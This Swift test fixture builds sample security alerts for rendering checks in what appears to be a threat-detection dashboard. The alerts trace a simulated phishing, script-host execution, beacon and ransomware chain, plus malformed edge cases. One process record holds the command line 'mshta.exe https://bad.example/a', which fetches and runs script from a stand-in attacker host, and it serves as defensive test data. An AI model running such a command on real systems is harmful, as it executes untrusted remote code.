import CaseStore
import Primitives
import SecurityModel

/// The alerts that pages are tried with.
struct PageRecords: Sendable {
    let say: @Sendable (String) -> String
    var isEndless = false

    /// An attack over three things of the organisation's and two of the attacker's.
    var attack: [NewAlert] {
        let device = link(1, .device, "ws-042", [.attacked]), user = link(2, .user, "mara@corp.example", [.compromised])
        let address = link(3, .ip, "203.0.113.9", [.commandAndControl]), page = link(4, .url, "https://bad.example/a", [.source])
        let mailbox = link(5, .mailbox, "mara@corp.example", [.destination]), process = link(6, .process, "mshta.exe", [])
        return [
            alert(
                1, "Mail with a link that was clicked", .medium, .initialAccess, "T1566.002", [mailbox, user, page],
                [.mailbox(address: say("mara@corp.example")), .url(say("https://bad.example/a"), roles: [.source])]),
            alert(
                2, "Script host started by mail program", .high, .execution, "T1218.005", [device, user, process],
                [
                    .device(hostName: say("ws-042"), address: "10.3.0.42", platform: say("Windows11"), roles: [.attacked]),
                    .process(
                        image: .file(name: say("mshta.exe"), path: say("C:\\Windows\\mshta.exe")),
                        commandLine: say("mshta.exe https://bad.example/a"), id: "4711", parentId: "4000",
                        user: .user(name: say("mara"), domain: say("corp"))),
                ], investigation: .unsupportedAlertType),
            alert(
                3, "Beacon to a rare address", .high, .commandAndControl, "T1071.001", [device, address],
                [.device(hostName: say("ws-042"), roles: [.attacked]), .ip("203.0.113.9", roles: [.commandAndControl])],
                investigation: .pendingApproval),
            alert(
                4, "Many files written anew", .high, .impact, "T1486", [device, user],
                [.device(hostName: say("ws-042"), roles: [.attacked]), .file(name: say("READ_ME.txt"), sha256: say("ab12"))]),
        ]
    }

    /// What a page may not be able to draw: a thing of an unknown kind, no time, no evidence, thousands of tags, a name without
    /// an end.
    var oddities: [NewAlert] {
        var unknown = alert(11, "A thing of an unknown kind", .low, .discovery, "T1046", [link(11, .other, "NCC-1701", [])], [])
        unknown.report.additionalData["evidence"] = [
            ["@odata.type": "#microsoft.graph.security.spaceshipEvidence", "hull": "NCC"]
        ]
        var timeless = alert(12, "An alert without a time", .unknown, nil, nil, [], [])
        (timeless.report.firstActivity, timeless.report.lastActivity) = (.distantPast, .distantPast)
        // A page shows the first of them; to have more of them foreign costs time and shows nothing.
        timeless.report.systemTags = (0..<(isEndless ? 5_000 : 50)).map { $0 < 60 ? say("tag \($0)") : "tag \($0)" }
        let endless = alert(
            13, String(repeating: "name without an end ", count: isEndless ? 500 : 5), .informational, .discovery, nil,
            [link(12, .device, String(repeating: "x", count: isEndless ? 10_000 : 100), [])], [])
        return [unknown, timeless, endless]
    }

    /// Alerts that name nothing but things of unknown kinds.
    func strangers(_ pieces: [Int]) -> [NewAlert] {
        pieces.enumerated().map { place, count in
            var stranger = alert(31 + Int64(place), "Unknown kinds only", .medium, nil, nil, [], [])
            let values = (0..<count).map { number -> JSONValue in
                ["@odata.type": "#microsoft.graph.security.spaceshipEvidence", "hull": .string("NCC-\(number)")]
            }
            stranger.report.additionalData["otherEvidence"] = .array(values)
            return stranger
        }
    }

    var noise: [NewAlert] {
        (21...23).map { number in
            alert(
                number, "Port scan", .low, .reconnaissance, "T1595", [link(21, .ip, "198.51.100.7", [.attacker])],
                [.ip("198.51.100.7", roles: [.attacker])])
        }
    }

    private func link(_ number: Int64, _ kind: EntityKind, _ value: String, _ roles: [EvidenceRole]) -> EntityLink {
        EntityLink(entity: number, key: EntityKey(kind, say(value), .strong), roles: RoleSet(roles))
    }

    private func alert(
        _ number: Int64, _ title: String, _ severity: AlertSeverity, _ tactic: Tactic?, _ technique: String?,
        _ entities: [EntityLink], _ evidence: [Evidence], investigation: InvestigationState = .unknown
    ) -> NewAlert {
        var report = AlertReport(source: say("edr"), title: say(title), activity: PageBench.start + .minutes(number * 7))
        report.providerAlertId = say("p\(number)")
        report.description = say("The product saw that: \(title.lowercased()).")
        report.recommendedActions = say("Look at it.") + "\n" + say("Stop it.")
        report.severity = severity
        report.serviceSource = ServiceSource("microsoftDefenderForEndpoint")
        report.detectionSource = DetectionSource("antivirus")
        report.productName = say("Endpoint")
        report.detectorId = say("rule-\(number)")
        report.tactics = tactic.map { TacticSet($0) } ?? []
        report.techniques = technique.flatMap { Technique($0) }.map { [$0] } ?? []
        report.actorDisplayName = say("Storm-0001")
        report.threatDisplayName = say("Emotet")
        report.threatFamilyName = say("Loader")
        report.systemTags = [say("Ransomware")]
        report.customDetails["ticket"] = JSONValue.string(say("4711"))
        report.additionalData[say("vendor")] = JSONValue.string(say("more"))
        if number == 2 {
            report.additionalData[AlertReport.commentsField] = [
                [
                    "comment": .string(say("Seen **before**, by <b>us</b>.")), "createdByDisplayName": .string(say("Mara")),
                    "createdDateTime": "2026-05-04T10:15:00Z",
                ]
            ]
        }
        report.investigation = investigation
        report.evidence = evidence
        return NewAlert(
            id: AlertID(number), report: report, sourceID: 1, identity: "p\(number)", detectorID: number, isExcluded: false,
            rawSequence: number, entities: entities, deviceGroup: 0)
    }
}
